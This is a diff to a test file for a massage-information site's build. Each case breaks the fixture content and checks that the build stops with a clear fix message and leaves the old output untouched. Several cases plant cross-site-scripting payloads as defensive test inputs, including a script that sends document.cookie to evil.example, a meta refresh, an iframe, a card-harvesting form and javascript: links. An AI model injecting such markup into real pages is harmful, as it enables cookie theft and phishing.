@@ -2,11 +2,12 @@
  * Bad content is the most common bad input: each case breaks one thing in a
  * copy of a small valid site (tests/fixtures/content), runs the real
  * `npm run build` steps, and checks that the build stops with a message
- * naming the file, the field or line, and the fix, and leaves no output.
+ * naming the file, the field or line, and the fix, and leaves the last good
+ * dist/ as it was. Checks that need no build are unit tests (tests/unit/checks/).
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { cpSync, existsSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { test } from 'node:test';
@@ -15,12 +16,25 @@ import { stripVTControlCharacters } from 'node:util';
 const FIXTURE = resolve('tests/fixtures/content');
 const BIN = resolve('node_modules/.bin');
 
-type Case = { name: string; expect: RegExp[] } & (
+interface Case {
+  name: string;
   /** Path inside the content folder, and how to change it (return the new text). */
-  | { file: string; edit: (text: string) => string }
-  /** Any other change to the content folder. */
-  | { setup: (root: string) => void }
-);
+  file: string;
+  edit: (text: string) => string;
+  expect: RegExp[];
+  /**
+   * Problems the site checks find after every entry has loaded are all reported
+   * at once, so these cases share one build (each edit on its own line of text).
+   */
+  together?: true;
+}
+
+/** A case that adds, renames or writes files itself, in the copied content folder. */
+interface FileCase {
+  name: string;
+  prepare: (root: string) => void;
+  expect: RegExp[];
+}
 
 const replace = (from: string | RegExp, to: string) => (text: string) => {
   const out = text.replace(from, to);
@@ -29,6 +43,7 @@ const replace = (from: string | RegExp, to: string) => (text: string) => {
 };
 
 const TYPE = 'types/swedish-massage.md';
+const prices = (published: string, rate: string) => `prices:\n  source: nhs-sciatica\n  published: ${published}\n  currency: GBP\n  rates:\n    - ${rate}`;
 const CASES: Case[] = [
   { name: 'missing required field', file: TYPE, edit: replace(/^summary: .*\n/m, ''), expect: [/swedish-massage\.md/, /- summary/, /Fix: add "summary"/] },
   { name: 'wrong type', file: TYPE, edit: replace('sessionMinutes: [60, 90]', 'sessionMinutes: [sixty]'), expect: [/swedish-massage\.md/, /sessionMinutes/, /must be number/] },
@@ -36,8 +51,8 @@ const CASES: Case[] = [
   { name: 'invalid enum value', file: TYPE, edit: replace('prescription: not-needed', 'prescription: sometimes'), expect: [/swedish-massage\.md/, /"prescription" must be one of/] },
   { name: 'invalid date', file: TYPE, edit: replace('lastReviewed: 2026-11-23', 'lastReviewed: 2026-13-45'), expect: [/swedish-massage\.md → lastReviewed: "2026-13-45" is not a real date/, /Fix: write the date as YYYY-MM-DD/] },
   { name: 'summary too long', file: TYPE, edit: replace(/^summary: .*$/m, `summary: ${'Very long. '.repeat(30)}`), expect: [/swedish-massage\.md/, /summary/, /Fix:/] },
-  { name: 'unknown reference', file: TYPE, edit: replace('condition: low-back-pain', 'condition: lower-back-pain'), expect: [/content\/types\/swedish-massage\.md → helps\[0\]\.condition/, /"lower-back-pain" is not an entry of conditions/, /Fix: use an id that exists in content\/conditions\//] },
-  { name: 'unknown source', file: TYPE, edit: replace('sources: [nccih-massage, cochrane', 'sources: [made-up-2020, cochrane'), expect: [/swedish-massage\.md → sources\[0\]/, /"made-up-2020" is not an entry of sources/, /content\/sources\.yaml/] },
+  { name: 'unknown reference', file: TYPE, edit: replace('condition: low-back-pain', 'condition: lower-back-pain'), expect: [/content\/types\/swedish-massage\.md → helps\[0\]\.condition/, /"lower-back-pain" is not an entry of conditions/, /Fix: use an id that exists in content\/conditions\//], together: true },
+  { name: 'unknown source', file: TYPE, edit: replace('sources: [nccih-massage, cochrane', 'sources: [made-up-2020, cochrane'), expect: [/swedish-massage\.md → sources\[0\]/, /"made-up-2020" is not an entry of sources/, /content\/sources\.yaml/], together: true },
   { name: 'typed evidence grade', file: TYPE, edit: replace('  - condition: low-back-pain\n', '  - condition: low-back-pain\n    grade: moderate\n'), expect: [/swedish-massage\.md/, /helps/, /grades are computed from content\/findings\.yaml, not typed: delete `grade`/] },
   { name: 'lowered grade above the computed one', file: TYPE, edit: replace('  - condition: low-back-pain\n', '  - condition: low-back-pain\n    lower: { grade: moderate, reason: "It works well in my experience." }\n'), expect: [/swedish-massage\.md → helps\[0\] \(low-back-pain\) → lower\.grade: "moderate" is not below the grade the findings give \(limited\)/, /Fix: delete `lower`/] },
   { name: 'finding on a consumer health page', file: 'findings.yaml', edit: replace('source: cochrane-2015-low-back-pain', 'source: nccih-massage'), expect: [/content\/findings\.yaml → cochrane-2015-low-back-pain-vs-inactive → source: nccih-massage is a health-information source/, /Fix: move this entry to content\/statements\.yaml/] },
@@ -45,53 +60,235 @@ const CASES: Case[] = [
   { name: 'wording stronger than the grade', file: TYPE, edit: replace('It may help [low back pain]', 'It probably helps [low back pain]'), expect: [/swedish-massage\.md → body line \d+ \(#benefits\): "probably helps" is wording for moderate evidence, but Low back pain is graded limited evidence/, /Fix: word it as its grade allows \("may help"/] },
   { name: 'pressure range upside down', file: TYPE, edit: replace('pressure: { min: light, max: medium }', 'pressure: { min: deep, max: light }'), expect: [/swedish-massage\.md/, /pressure\.min must not be firmer than pressure\.max/] },
   { name: 'focus with no region', file: 'types/deep-tissue-massage.md', edit: replace('  regions: [lower-back, legs]', '  regions: []'), expect: [/deep-tissue-massage\.md/, /focus needs fullBody: true or at least one region id/] },
-  { name: 'dead internal link', file: TYPE, edit: replace('(/techniques/effleurage/)', '(/techniques/efleurage/)'), expect: [/content\/types\/swedish-massage\.md → body line \d+: the link \/techniques\/efleurage\/ leads to no page/, /Fix: check the slug/] },
-  { name: 'dead #fragment', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#risks)'), expect: [/sciatica\.md → body line \d+/, /names a section that \/types\/swedish-massage\/ does not have/, /Fix: use one of: .*#safety/] },
-  { name: 'duplicate alias', file: 'types/deep-tissue-massage.md', edit: replace('aliases: [deep tissue]', 'aliases: [deep tissue, classic massage]'), expect: [/(deep-tissue|swedish)-massage\.md → aliases: the alias "classic massage" .* is also an alias of "(swedish|deep-tissue)-massage"/, /Fix: remove "classic massage"/] },
-  { name: 'alias equal to another slug', file: 'conditions/sciatica.md', edit: replace('aliases: []', 'aliases: [low back pain]'), expect: [/sciatica\.md → aliases: the alias "low back pain" .* is the slug of "low-back-pain"/] },
-  { name: 'missing required section', file: TYPE, edit: replace('## What is it? { #what-it-is }', '## What is it?'), expect: [/swedish-massage\.md → section #what-it-is: section #what-it-is is missing/, /Fix: add a heading/] },
-  { name: 'section id the layout reserves', file: TYPE, edit: replace('## How is it different? { #differences }', '## How is it different? { #differences }\n\n## Is it safe? { #safety }\n\nText.'), expect: [/section #safety is reserved/, /Fix: rename the heading/] },
-  { name: 'image without alt text', file: TYPE, edit: replace('Relaxed, perhaps a little sore.', 'Relaxed.\n\n![](/favicon.svg)'), expect: [/swedish-massage\.md → body line \d+: the image \/favicon\.svg has no alt text/, /Fix: describe what the image shows/] },
+  { name: 'dead internal link', file: TYPE, edit: replace('(/techniques/effleurage/)', '(/techniques/efleurage/)'), expect: [/content\/types\/swedish-massage\.md → body line \d+: the link \/techniques\/efleurage\/ leads to no page/, /Fix: check the slug/], together: true },
+  { name: 'dead #fragment', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#risks)'), expect: [/sciatica\.md → body line \d+/, /names a section that \/types\/swedish-massage\/ does not have/, /Fix: use one of: .*#safety/], together: true },
+  { name: 'duplicate alias', file: 'types/deep-tissue-massage.md', edit: replace('aliases: [deep tissue]', 'aliases: [deep tissue, classic massage]'), expect: [/(deep-tissue|swedish)-massage\.md → aliases: the alias "classic massage" .* is also an alias of "(swedish|deep-tissue)-massage"/, /Fix: remove "classic massage"/], together: true },
+  { name: 'alias equal to another slug', file: 'conditions/sciatica.md', edit: replace('aliases: []', 'aliases: [low back pain]'), expect: [/sciatica\.md → aliases: the alias "low back pain" .* is the slug of "low-back-pain"/], together: true },
+  { name: 'missing required section', file: TYPE, edit: replace('## What is it? { #what-it-is }', '## What is it?'), expect: [/swedish-massage\.md → section #what-it-is: section #what-it-is is missing/, /Fix: add a heading/], together: true },
+  { name: 'section id the layout reserves', file: TYPE, edit: replace('## How is it different? { #differences }', '## How is it different? { #differences }\n\n## Is it safe? { #safety }\n\nText.'), expect: [/section #safety is reserved/, /Fix: rename the heading/], together: true },
+  { name: 'image without alt text', file: TYPE, edit: replace('Relaxed, perhaps a little sore.', 'Relaxed.\n\n![](/favicon.svg)'), expect: [/swedish-massage\.md → body line \d+: the image \/favicon\.svg has no alt text/, /Fix: describe what the image shows/], together: true },
   { name: 'source with neither URL nor identifier', file: 'sources.yaml', edit: replace('  url: https://www.nhs.uk/conditions/sciatica/\n', ''), expect: [/sources/, /nhs-sciatica|url/, /needs a url, doi or pmid/] },
   { name: 'malformed DOI', file: 'sources.yaml', edit: replace('doi: 10.1002/14651858.CD001929.pub3', 'doi: CD001929'), expect: [/sources/, /a DOI looks like 10\./] },
   { name: 'malformed YAML', file: TYPE, edit: replace('aliases: [classic massage, relaxation massage]', 'aliases: [classic massage, relaxation massage'), expect: [/swedish-massage\.md:4/, /missed comma between flow collection entries/] },
   { name: 'MDX syntax error', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with <strong>a fever.'), expect: [/safety\.mdx:\d+:\d+/, /Expected a closing tag for `<strong>`/] },
   { name: 'misused content component', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with a fever.\n\n<EvidenceTable rows="all" />'), expect: [/safety/, /EvidenceTable/] },
-  { name: 'content component in a Markdown file', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#evidence)\n\n<EvidenceBadge grade="limited" />'), expect: [/sciatica\.md → body line \d+: <EvidenceBadge> is a component, and components work only in \.mdx files/, /Fix: rename the file to \.mdx and import EvidenceBadge/] },
-  { name: 'comparison that is not a pair of types', setup: (root) => renameSync(join(root, 'comparisons/deep-tissue-massage-vs-swedish-massage.md'), join(root, 'comparisons/swedish-massage-vs-deep-tissue-massage.md')), expect: [/swedish-massage-vs-deep-tissue-massage is not a pair of type slugs in alphabetical order/, /Fix: name the file/] },
+  { name: 'content component in a Markdown file', file: 'conditions/sciatica.md', edit: (t) => `${t}\n<EvidenceBadge grade="limited" />\n`, expect: [/sciatica\.md → body line \d+: <EvidenceBadge> is a component, and components work only in \.mdx files/, /Fix: rename the file to \.mdx and import EvidenceBadge/], together: true },
+  { name: 'meta refresh in a Markdown body', file: 'conditions/sciatica.md', edit: (t) => `${t}\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n`, expect: [/content\/conditions\/sciatica\.md → body line \d+: <meta> is raw HTML that changes what the page does/, /Fix: remove it: the layout writes every <meta> tag/], together: true },
+  { name: 'event handler in an MDX body', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with a <span onmouseover="steal()">fever</span>.'), expect: [/safety\.mdx → body line \d+: the onmouseover attribute would run JavaScript/, /Fix: remove onmouseover=/], together: true },
+  { name: 'javascript: source url', file: 'sources.yaml', edit: replace('url: https://www.nhs.uk/conditions/sciatica/', 'url: "javascript:alert(1)"'), expect: [/sources/, /a source url is a web address starting with https:\/\//] },
+  { name: 'the same condition twice in helps', file: 'types/deep-tissue-massage.md', edit: replace('  - condition: sciatica', '  - condition: low-back-pain'), expect: [/deep-tissue-massage\.md → helps\[1\]\.condition: "low-back-pain" is graded twice/, /Fix: keep one claim per condition/], together: true },
+  { name: 'an entry related to itself', file: TYPE, edit: replace('related: [deep-tissue-massage]', 'related: [deep-tissue-massage, swedish-massage]'), expect: [/swedish-massage\.md → related\[1\]: "swedish-massage" lists itself as related/, /Fix: remove "swedish-massage" from related/], together: true },
+  { name: 'invalid date in a Windows-saved (CRLF) file', file: TYPE, edit: (t) => replace('lastReviewed: 2026-11-23', 'lastReviewed: 2026-13-45')(t).replace(/\n/g, '\r\n'), expect: [/swedish-massage\.md → lastReviewed: "2026-13-45" is not a real date/, /Fix: write the date as YYYY-MM-DD/] },
+  { name: 'review date in the future', file: TYPE, edit: replace('lastReviewed: 2026-11-23', 'lastReviewed: 2099-01-01'), expect: [/swedish-massage\.md → lastReviewed: 2099-01-01 is after the build date/, /Fix: write the date the review was done, which cannot be in the future/], together: true },
+  { name: 'price date in the future', file: TYPE, edit: replace('related: [deep-tissue-massage]', `related: [deep-tissue-massage]\n${prices('2099-05-01', '{ minutes: 60, amount: 50 }')}`), expect: [/swedish-massage\.md → published: 2099-05-01 is after the build date/, /Fix: write the date the prices were published/] },
+  { name: 'negative session length in a price', file: TYPE, edit: replace('related: [deep-tissue-massage]', `related: [deep-tissue-massage]\n${prices('2025-04-21', '{ minutes: -60, amount: 50 }')}`), expect: [/swedish-massage\.md/, /prices\.rates\.0\.minutes|prices\.rates\[0\]\.minutes/, /a session is at least 5 minutes/] },
+  { name: 'absurd price', file: TYPE, edit: replace('related: [deep-tissue-massage]', `related: [deep-tissue-massage]\n${prices('2025-04-21', '{ minutes: 60, amount: 1e9 }')}`), expect: [/swedish-massage\.md/, /amount/, /a price per session is under 10,000/] },
+  { name: 'session lengths out of order and repeated', file: TYPE, edit: replace('sessionMinutes: [60, 90]', 'sessionMinutes: [90, 60, 60]'), expect: [/swedish-massage\.md/, /sessionMinutes/, /list each session length once, shortest first/] },
+  { name: 'a title of spaces', file: TYPE, edit: replace('title: Swedish massage', 'title: "     "'), expect: [/swedish-massage\.md/, /title/, /a title needs at least 3 characters of text, not only spaces/] },
+  { name: 'an overlong title', file: TYPE, edit: replace('title: Swedish massage', `title: ${'Swedish massage '.repeat(8)}`), expect: [/swedish-massage\.md/, /title/, /a title is at most 90 characters/] },
+  { name: 'a summary of spaces', file: TYPE, edit: replace(/^summary: .*$/m, `summary: "${' '.repeat(60)}"`), expect: [/swedish-massage\.md/, /summary/, /a summary needs at least 40 characters of text, not only spaces/] },
+  { name: 'relative link', file: 'conditions/sciatica.md', edit: (t) => `${t}\nSee [the type](types/swedish-massage).\n`, expect: [/sciatica\.md → body line \d+: the relative link types\/swedish-massage leads from \/conditions\/sciatica\/ to \/conditions\/sciatica\/types\/swedish-massage/, /Fix: write the link as a site path/], together: true },
+  { name: 'dead reference-style link', file: TYPE, edit: (t) => `${t}\nRelaxed, [see][s].\n\n[s]: /conditions/siatica/\n`, expect: [/swedish-massage\.md → body line \d+: the link \/conditions\/siatica\/ leads to no page/], together: true },
+  { name: 'missing local image', file: TYPE, edit: (t) => `${t}\n![A calf](/images/calf.png)\n`, expect: [/swedish-massage\.md → body line \d+: \/images\/calf\.png is not a file in public\//, /Fix: add the file as public\/images\/calf\.png/], together: true },
+  { name: 'glossary article that is no page', file: 'glossary.yaml', edit: replace('article: /techniques/effleurage/', 'article: /techniques/efleurage/'), expect: [/glossary\.yaml → effleurage\.article: \/techniques\/efleurage\/ is no page/], together: true },
+  { name: 'comparison link to a type that does not exist', file: 'conditions/low-back-pain.md', edit: (t) => `${t}\nCompare [them](/compare/?t=swedish-massage&t=hot-stone-massage).\n`, expect: [/low-back-pain\.md → body line \d+: the link \/compare\/\?t=swedish-massage&t=hot-stone-massage compares "hot-stone-massage", which is not a type/, /Fix: use type slugs from content\/types\//], together: true },
+  { name: 'link to a non-ASCII heading by its ASCII form', file: 'conditions/low-back-pain.md', edit: (t) => `${t}\n## Café & spa options\n\nSee [spa options](#cafe-and-spa-options).\n`, expect: [/low-back-pain\.md → body line \d+: the link #cafe-and-spa-options names a section that \/conditions\/low-back-pain\/ does not have/, /Fix: use one of: .*#café--spa-options/], together: true },
+  { name: 'dead raw <a href> link', file: 'techniques/effleurage.md', edit: (t) => `${t}\nSee <a href="/conditions/siatica/">sciatica</a>.\n`, expect: [/effleurage\.md → body line \d+: the link \/conditions\/siatica\/ leads to no page/], together: true },
+  { name: 'javascript: link in a Markdown body', file: 'techniques/effleurage.md', edit: (t) => `${t}\n[Click](javascript:alert(document.cookie))\n`, expect: [/effleurage\.md → body line \d+: the link javascript:alert\(document\.cookie\)? uses the javascript: scheme/, /Fix: link to an https:\/\/ address/], together: true },
+  { name: '<script> in a Markdown body', file: 'techniques/stripping.md', edit: (t) => `${t}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n`, expect: [/stripping\.md → body line \d+: <script> is raw HTML that changes what the page does/, /Fix: remove it: article pages run no JavaScript/], together: true },
+  { name: '<iframe> in a Markdown body', file: 'techniques/stripping.md', edit: (t) => `${t}\n<iframe src="https://evil.example/"></iframe>\n`, expect: [/stripping\.md → body line \d+: <iframe> is raw HTML/, /Fix: remove it and link to the page instead/], together: true },
+  { name: '<form> in a Markdown body', file: 'regions/legs.md', edit: (t) => `${t}\n<form action="https://evil.example/"><input name="card"></form>\n`, expect: [/legs\.md → body line \d+: <form> is raw HTML/, /Fix: remove it and link to the page that holds the form/], together: true },
+  { name: '<style> in a Markdown body', file: 'regions/legs.md', edit: (t) => `${t}\n<style>main { display: none }</style>\n`, expect: [/legs\.md → body line \d+: <style> is raw HTML/, /Fix: remove it: styles belong in src\/styles\/global\.css/], together: true },
   { name: 'glossary link that is not a site path', file: 'glossary.yaml', edit: replace('article: /techniques/effleurage/', 'article: techniques/effleurage'), expect: [/glossary/, /article is a site path/] },
 ];
 
-function build(prepare: (root: string) => void): { status: number | null; output: string; leftovers: boolean } {
+const copy = (root: string, from: string, to: string) => writeFileSync(join(root, to), readFileSync(join(root, from)));
+const append = (root: string, file: string, text: string) => writeFileSync(join(root, file), readFileSync(join(root, file), 'utf8') + text);
+
+/** What a clinic may have linked to or framed before the rename. */
+const PUBLISHED_SWEDISH = [
+  '/types/swedish-massage/',
+  '/embed/types/swedish-massage/',
+  '/handouts/types/swedish-massage/',
+  '/oembed/types/swedish-massage.json',
+  '/og/types/swedish-massage.png',
+  '/qr/types/swedish-massage.svg',
+  '/compare/deep-tissue-massage-vs-swedish-massage/',
+];
+
+const FILE_CASES: FileCase[] = [
+  {
+    name: 'comparison that is not a pair of types',
+    prepare: (root) => renameSync(join(root, 'comparisons/deep-tissue-massage-vs-swedish-massage.md'), join(root, 'comparisons/swedish-massage-vs-deep-tissue-massage.md')),
+    expect: [/swedish-massage-vs-deep-tissue-massage is not a pair of type slugs in alphabetical order/, /Fix: name the file/],
+  },
+  {
+    name: 'two files whose slugs differ only by case',
+    prepare: (root) => copy(root, TYPE, 'types/Swedish-Massage.md'),
+    expect: [
+      /content\/types\/Swedish-Massage\.md → file name: Swedish-Massage\.md is not a lowercase-hyphen slug/,
+      /Fix: rename it to .*content\/types\/swedish-massage\.md/,
+      /Swedish-Massage\.md and swedish-massage\.md would be the same page \(swedish-massage\)/,
+    ],
+  },
+  {
+    name: 'the same slug as .md and .mdx',
+    prepare: (root) => copy(root, 'techniques/effleurage.md', 'techniques/effleurage.mdx'),
+    expect: [/techniques\/effleurage\.md → file name: effleurage\.md and effleurage\.mdx would be the same page/, /Fix: merge them into .*effleurage\.md and delete .*effleurage\.mdx/],
+  },
+  {
+    name: 'a .markdown file',
+    prepare: (root) => renameSync(join(root, 'regions/legs.md'), join(root, 'regions/legs.markdown')),
+    expect: [/content\/regions\/legs\.markdown → file name: legs\.markdown is not read/, /Fix: rename it to .*content\/regions\/legs\.md/],
+  },
+  {
+    name: 'an empty glossary (a loader warning)',
+    prepare: (root) => writeFileSync(join(root, 'glossary.yaml'), '[]\n'),
+    expect: [/\d content loader warnings? stopped the build/, /- \[file-loader\] No items found in .*glossary\.yaml/, /Fix: correct the file/],
+  },
+  {
+    name: 'a file that is not UTF-8',
+    prepare: (root) => writeFileSync(join(root, 'regions/legs.md'), Buffer.concat([readFileSync(join(root, 'regions/legs.md')), Buffer.from('\nCaf\xe9 chairs.\n', 'latin1')])),
+    expect: [/content\/regions\/legs\.md → byte \d+ \(line \d+, column 4\): the file is not UTF-8: byte 0xE9/, /Fix: re-save the file as UTF-8/],
+  },
+  {
+    name: 'a source id used twice',
+    prepare: (root) => append(root, 'sources.yaml', '- id: nhs-sciatica\n  title: Another page entirely\n  authors: NHS\n  publisher: NHS\n  kind: health-information\n  url: https://www.nhs.uk/\n'),
+    expect: [/content\/sources\.yaml → id \(line \d+\): the source id "nhs-sciatica" is also used at line \d+/, /Fix: give one of them another id/],
+  },
+  {
+    name: 'a glossary id used twice',
+    prepare: (root) => append(root, 'glossary.yaml', '- id: effleurage\n  term: Gliding\n  definition: Another definition that replaces the first one.\n'),
+    expect: [/content\/glossary\.yaml → id \(line \d+\): the glossary id "effleurage" is also used at line 1/],
+  },
+  {
+    name: 'a glossary term under two ids',
+    prepare: (root) => append(root, 'glossary.yaml', '- id: gliding-strokes\n  term: EFFLEURAGE\n  definition: Another definition of the same term.\n'),
+    expect: [/content\/glossary\.yaml → gliding-strokes \(line \d+\): "effleurage" is also a term or alias of "effleurage"/, /Fix: keep "effleurage" under one id/],
+  },
+  {
+    name: 'a renamed entry without its old slug as an alias (published URLs lost)',
+    prepare: (root) => renameSwedish(root, false),
+    expect: [
+      ...PUBLISHED_SWEDISH.map((path) => new RegExp(`published-urls\\.txt → ${path.replace(/[/.]/g, '\\$&')}: was published, and clinics may link to it, but this build no longer answers it`)),
+      /Fix: if the entry was renamed, keep its old slug "swedish-massage" in its `aliases`/,
+    ],
+  },
+  {
+    name: 'malformed glossary YAML',
+    prepare: (root) => append(root, 'glossary.yaml', '- id: broken\n  term: [unclosed\n'),
+    expect: [/content\/glossary\.yaml → line \d+: the YAML cannot be read/, /Fix: each entry starts with "- id: …"/],
+  },
+];
+
+/** The last good site, which a failed build must leave as it was. */
+const OLD_SITE = '<!doctype html><title>The last good build</title>';
+
+/** Every file under a folder whose text contains `needle`. */
+function filesContaining(dir: string, needle: string): string[] {
+  return readdirSync(dir, { recursive: true, withFileTypes: true })
+    .filter((d) => d.isFile() && readFileSync(join(d.parentPath, d.name)).includes(needle))
+    .map((d) => join(d.parentPath, d.name).slice(dir.length));
+}
+
+function build(prepare: (root: string) => void, inspect?: (out: string) => void): { status: number | null; output: string; oldSiteIntact: boolean } {
   const work = mkdtempSync(join(tmpdir(), 'bad-content-'));
   const content = join(work, 'content');
   cpSync(FIXTURE, content, { recursive: true });
   prepare(content);
   const out = join(work, 'dist');
+  mkdirSync(out);
+  writeFileSync(join(out, 'index.html'), OLD_SITE);
+  const { SITE_URL: _deployment, ...env } = process.env;
+  // Built as a local preview (no SITE_URL), as `npm start` does.
   const result = spawnSync(process.execPath, ['scripts/build.ts'], {
     encoding: 'utf8',
-    env: { ...process.env, PATH: `${BIN}:${process.env['PATH']}`, CONTENT_ROOT: content, BUILD_OUT: out, ASTRO_CACHE_DIR: join(work, 'cache') },
+    env: { ...env, PATH: `${BIN}:${process.env['PATH']}`, CONTENT_ROOT: content, BUILD_OUT: out, ASTRO_CACHE_DIR: join(work, 'cache') },
   });
-  const leftovers = existsSync(out) || existsSync(`${out}-staging`);
+  inspect?.(out);
+  const oldSiteIntact = readdirSync(out).join() === 'index.html' && readFileSync(join(out, 'index.html'), 'utf8') === OLD_SITE && !existsSync(`${out}-staging`);
   rmSync(work, { recursive: true, force: true });
   // Colours (on when CI is set) would split the words the patterns look for.
-  return { status: result.status, output: stripVTControlCharacters(`${result.stdout}\n${result.stderr}`), leftovers };
+  return { status: result.status, output: stripVTControlCharacters(`${result.stdout}\n${result.stderr}`), oldSiteIntact };
 }
 
-test('the fixture site itself builds', () => {
-  const { status, output } = build(() => {});
+test('the fixture site builds without SITE_URL, warns once, and writes no localhost address anywhere', () => {
+  let localhost: string[] = [];
+  let pages = 0;
+  const { status, output } = build(
+    () => {},
+    (out) => {
+      localhost = filesContaining(out, 'localhost');
+      pages = filesContaining(out, '<title>').length;
+    },
+  );
   assert.equal(status, 0, output.slice(-3000));
+  assert.ok(pages > 20, `the build wrote ${pages} pages`);
+  assert.deepEqual(localhost, [], 'files with a localhost address');
+  assert.equal(output.match(/SITE_URL is not set/g)?.length, 1, output.slice(0, 2000));
 });
 
-for (const c of CASES) {
+/** Renames Swedish massage to swedish-massage-therapy everywhere, as an author would, keeping the old slug as an alias or not. */
+function renameSwedish(root: string, keepAlias: boolean): void {
+  for (const entry of readdirSync(root, { recursive: true, withFileTypes: true })) {
+    if (!entry.isFile()) continue;
+    const path = join(entry.parentPath, entry.name);
+    writeFileSync(path, readFileSync(path, 'utf8').replace(/swedish-massage(?![\w-])/g, 'swedish-massage-therapy'));
+    if (entry.name.includes('swedish-massage')) renameSync(path, join(entry.parentPath, entry.name.replace('swedish-massage', 'swedish-massage-therapy')));
+  }
+  const type = join(root, 'types/swedish-massage-therapy.md');
+  if (keepAlias) writeFileSync(type, readFileSync(type, 'utf8').replace('aliases: [classic massage, relaxation massage]', 'aliases: [classic massage, relaxation massage, swedish massage]'));
+  writeFileSync(join(root, 'published-urls.txt'), `${PUBLISHED_SWEDISH.join('\n')}\n`);
+}
+
+
+test('a renamed entry that keeps its old slug as an alias keeps every published URL', () => {
+  const answers: Record<string, string> = {};
+  const { status, output } = build(
+    (root) => renameSwedish(root, true),
+    (out) => {
+      for (const path of PUBLISHED_SWEDISH) {
+        const file = join(out, path.endsWith('/') ? `${path}index.html` : path);
+        answers[path] = existsSync(file) ? (path.endsWith('.png') ? 'png' : readFileSync(file, 'utf8')) : 'missing';
+      }
+    },
+  );
+  assert.equal(status, 0, output.slice(-3000));
+  const redirectsTo = (path: string, to: string) => assert.match(answers[path]!, new RegExp(`http-equiv="refresh" content="0; url=${to.replace(/[/.]/g, '\\$&')}"`), path);
+  redirectsTo('/types/swedish-massage/', '/types/swedish-massage-therapy/');
+  redirectsTo('/embed/types/swedish-massage/', '/embed/types/swedish-massage-therapy/');
+  redirectsTo('/handouts/types/swedish-massage/', '/handouts/types/swedish-massage-therapy/');
+  redirectsTo('/compare/deep-tissue-massage-vs-swedish-massage/', '/compare/deep-tissue-massage-vs-swedish-massage-therapy/');
+  assert.match(answers['/oembed/types/swedish-massage.json']!, /"url":"\/types\/swedish-massage-therapy\/"/);
+  assert.match(answers['/qr/types/swedish-massage.svg']!, /^<svg/);
+  assert.equal(answers['/og/types/swedish-massage.png'], 'png');
+});
+
+const applyEdit = (c: Case) => (root: string) => writeFileSync(join(root, c.file), c.edit(readFileSync(join(root, c.file), 'utf8')));
+
+const ALL: FileCase[] = [
+  ...CASES.filter((c) => !c.together).map((c) => ({ name: c.name, expect: c.expect, prepare: applyEdit(c) })),
+  ...FILE_CASES,
+];
+
+const TOGETHER = CASES.filter((c) => c.together);
+let shared: ReturnType<typeof build> | undefined;
+const sharedBuild = () => (shared ??= build((root) => TOGETHER.forEach((c) => applyEdit(c)(root))));
+
+for (const c of TOGETHER) {
+  test(`bad content stops the build: ${c.name} (one build with ${TOGETHER.length} problems)`, () => {
+    const { status, output, oldSiteIntact } = sharedBuild();
+    assert.notEqual(status, 0, `the build passed:\n${output.slice(-2000)}`);
+    for (const pattern of c.expect) assert.match(output, pattern, output.slice(-6000));
+    assert.equal(oldSiteIntact, true, 'a failed build changed the old dist/ or left a staging folder');
+  });
+}
+
+for (const c of ALL) {
   test(`bad content stops the build: ${c.name}`, () => {
-    const { status, output, leftovers } = build((root) => {
-      if ('setup' in c) return c.setup(root);
-      const path = join(root, c.file);
-      writeFileSync(path, c.edit(readFileSync(path, 'utf8')));
-    });
+    const { status, output, oldSiteIntact } = build(c.prepare);
     assert.notEqual(status, 0, `the build passed:\n${output.slice(-2000)}`);
     for (const pattern of c.expect) assert.match(output, pattern, output.slice(-3000));
-    assert.equal(leftovers, false, 'a failed build left output behind');
+    assert.equal(oldSiteIntact, true, 'a failed build changed the old dist/ or left a staging folder');
   });
 }
